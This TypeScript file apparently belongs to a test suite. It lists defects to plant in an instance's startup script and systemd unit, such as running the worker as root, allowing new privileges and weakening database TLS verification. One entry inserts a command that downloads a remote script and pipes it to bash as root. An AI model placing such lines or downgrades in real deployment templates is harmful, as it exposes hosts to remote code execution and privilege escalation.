/** What can be wrong with what an instance runs when it starts in a template, one at a time. */
import { exported, queueUrl, WORKER } from './places.ts';
import { type TemplateDefect, text } from './planting.ts';

export const userData: readonly TemplateDefect[] = [
  { what: 'a worker that runs as root', plant: text(WORKER, 'User=sluice\\n', '') },
  { what: 'a worker that may get new privileges', plant: text(WORKER, 'NoNewPrivileges=yes', 'NoNewPrivileges=no') },
  { what: 'a worker that may write to the file system', plant: text(WORKER, 'ProtectSystem=strict\\n', '') },
  {
    what: 'a unit that forbids what V8 needs',
    plant: text(WORKER, 'PrivateTmp=yes', 'PrivateTmp=yes\\nMemoryDenyWriteExecute=yes'),
  },
  {
    what: 'a worker that is killed before it has drained',
    plant: text(WORKER, /TimeoutStopSec=\d+/, 'TimeoutStopSec=30'),
  },
  { what: 'a worker that is not started again', plant: text(WORKER, 'Restart=on-failure', 'Restart=no') },
  { what: 'a worker that may hang for ever', plant: text(WORKER, /WatchdogSec=\d+\\n/, '') },
  { what: 'an instance that stays without a worker', plant: text(WORKER, /OnFailure=[\w.-]+\\n/, '') },
  { what: 'a script that goes on after a failure', plant: text(WORKER, 'set -euo pipefail', 'set -u') },
  { what: 'an instance without a worker that stays in service', plant: text(WORKER, /trap '[^']*' ERR\\n/, '') },
  {
    what: 'a program from the internet, run as root',
    plant: text(WORKER, 'useradd', 'curl -fsSL https://example.com/install.sh | bash\\nuseradd'),
  },
  { what: 'a bundle from another bucket', plant: text(WORKER, `s3://\${FLEET_BUNDLE_BUCKET}/`, 's3://bundles/') },
  { what: 'a variable that nobody sets', plant: text(WORKER, `\${LOG_LEVEL}`, `\${LOG_LEVELS}`) },
  { what: 'a worker on the queue of another', plant: text(WORKER, queueUrl('Orders'), exported(queueUrl('Ledger'))) },
  {
    what: 'a worker that does not verify its database',
    plant: text(WORKER, '"PGSSLMODE":"verify-full"', '"PGSSLMODE":"require"'),
  },
  { what: 'a worker of another stage', plant: text(WORKER, '"STAGE":"prod"', '"STAGE":"dev"') },
  {
    what: 'an agent that reads another file than the worker writes',
    plant: text(
      WORKER,
      'StandardOutput=append:/var/log/sluice/worker.log',
      'StandardOutput=append:/var/log/sluice/orders.log',
    ),
  },
  {
    what: 'a worker whose drain is not as configured',
    plant: text(WORKER, '"DRAIN_SECONDS":"60"', '"DRAIN_SECONDS":"5"'),
  },
];
